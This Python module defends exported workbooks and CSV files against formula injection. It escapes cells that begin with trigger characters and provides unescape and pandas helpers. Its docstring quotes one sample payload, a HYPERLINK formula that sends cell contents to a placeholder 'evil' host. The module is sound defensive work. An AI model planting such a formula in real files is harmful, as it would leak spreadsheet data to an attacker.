"""Formula injection guard for every workbook (and CSV) the product writes.

A cell whose text starts with = + - @ (or tab / carriage return, or their full-width forms)
is run as a formula by Excel or LibreOffice when the file is opened, e.g. a locality name
`=HYPERLINK("http://evil/?"&A1)`. `escape_cell` prefixes such text with an apostrophe so it
stays text; numbers, dates and None pass through unchanged (a negative number is a number).
Readers of our own templates call `unescape_cell` to get the original text back.
"""
from __future__ import annotations

from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
PREFIX = "'"


def escape_cell(value: Any) -> Any:
    """Text that a spreadsheet would run as a formula gets a leading apostrophe; all else unchanged."""
    if isinstance(value, str) and value.startswith(TRIGGERS):
        return PREFIX + value
    return value


def unescape_cell(value: Any) -> Any:
    """Inverse of `escape_cell` for text read back from a workbook we wrote."""
    if isinstance(value, str) and value.startswith(PREFIX) and value[1:].startswith(TRIGGERS):
        return value[1:]
    return value


def escape_row(values) -> list:
    return [escape_cell(v) for v in values]


def escape_frame(df):
    """A copy of a pandas DataFrame with every text cell (and column name) escaped, for to_excel/to_csv."""
    from pandas.api.types import is_object_dtype, is_string_dtype
    out = df.copy()
    for col in out.columns:
        if is_object_dtype(out[col].dtype) or is_string_dtype(out[col].dtype):
            out[col] = out[col].map(escape_cell)
    out.columns = [escape_cell(c) for c in out.columns]
    return out
